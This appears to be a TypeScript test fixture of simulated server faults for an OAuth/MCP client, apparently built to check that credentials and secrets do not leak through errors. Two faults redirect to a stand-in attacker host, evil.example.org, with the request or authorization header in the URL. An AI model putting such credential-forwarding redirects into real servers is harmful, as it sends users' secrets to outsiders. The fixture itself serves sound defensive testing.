import type { Life } from './life.js';
import { MCP, type Sent } from './servers.js';

/** How one request fails. */
export type Fault = (sent: Sent, session: Life) => Response | Promise<Response>;

/** The whole request as one text, in the forms that it may be repeated in. */
function wholeOf({ method, url, headers, body }: Sent): string {
  const credentials = headers.get('authorization') ?? '';
  const form = [...new URLSearchParams(body).values()].join(' ');
  return `${credentials} ${headers.get('dpop') ?? ''} ${form} ${body} ${decodeURIComponent(body.replaceAll('%', '%25'))} ${method} ${url}`;
}

const echo =
  (error: string, status = 400): Fault =>
  (sent) =>
    Response.json({ error, error_description: wholeOf(sent) }, { status });

/** The decoded values of the credentials that were sent by Basic. */
function basicOf({ headers }: Sent): string {
  const [scheme, value = ''] = headers.get('authorization')?.split(' ') ?? [];
  return scheme === 'Basic' ? Buffer.from(value, 'base64').toString() : value;
}

/** The part of a body that a server cut. */
const half = ({ body }: Sent) => body.slice(0, Math.floor(body.length * 0.8));

export const FAULTS: Readonly<Record<string, Fault>> = {
  'no connection': () => {
    const cause = Object.assign(new Error('read ECONNRESET'), { code: 'ECONNRESET' });
    return Promise.reject(new TypeError('fetch failed', { cause }));
  },
  'an exception that carries the request as its members': (sent) =>
    Promise.reject(
      Object.assign(new Error('Request failed'), {
        request: { ...sent, signal: undefined },
        config: { data: wholeOf(sent) },
      }),
    ),
  'an exception whose message is the request': (sent) => Promise.reject(new Error(`${wholeOf(sent)} failed`)),
  'several exceptions, each with the request': (sent) => {
    const inner = Object.assign(new Error('one'), { config: { data: wholeOf(sent) } });
    return Promise.reject(
      new AggregateError([inner, Object.assign(new Error('two'), { data: wholeOf(sent) })], 'all failed'),
    );
  },
  'a server error that repeats the request': echo('server_error', 500),
  'invalid_grant that repeats the request': echo('invalid_grant'),
  'invalid_client that repeats the request': echo('invalid_client', 401),
  'an error whose text is the credentials, decoded': (sent) =>
    Response.json(
      { error: 'invalid_request', error_description: basicOf(sent), error_uri: wholeOf(sent) },
      { status: 400 },
    ),
  'an error in a form, cut in the middle of a secret': (sent) =>
    Response.json({ error: 'invalid_request', error_description: `I got ${half(sent)}` }, { status: 400 }),
  'a page that repeats the request': (sent) =>
    new Response(`<html><title>Forbidden</title><pre>${wholeOf(sent).replaceAll('&', '&amp;')}</pre></html>`, {
      status: 403,
      headers: { 'content-type': 'text/html' },
    }),
  'broken JSON that repeats the request': (sent) =>
    new Response(`{"access_token": ${wholeOf(sent)}`, { headers: { 'content-type': 'application/json' } }),
  'an answer of a wrong shape that repeats the request': (sent) =>
    Response.json({ access_token: [wholeOf(sent)], token_type: basicOf(sent), issuer: 7, resource: {}, client_id: [] }),
  'a redirect with the request in its query': (sent) =>
    new Response(null, {
      status: 307,
      headers: { location: `https://evil.example.org/?q=${encodeURIComponent(wholeOf(sent))}` },
    }),
  'a redirect with the request in its path': (sent) =>
    new Response(null, {
      status: 307,
      headers: {
        location: `https://evil.example.org/${encodeURIComponent(sent.headers.get('authorization') ?? '')}/x`,
      },
    }),
  'no answer': (sent, { clock, abort }) => {
    // How long the MCP server may take is for the caller to say.
    setTimeout(() => (sent.url === MCP ? abort() : clock.advance(60_000)), 1);
    return never(sent);
  },
  'the caller gave up': (sent, { clock, abort }) => {
    setTimeout(abort, 1);
    // Nobody's signal ends a sign-out.
    setTimeout(() => clock.advance(60_000), 2);
    return never(sent);
  },
};

/** As `fetch` does: it ends when it is told to. */
function never({ signal }: Sent): Promise<never> {
  return new Promise((_, reject) => signal.addEventListener('abort', () => reject(signal.reason)));
}
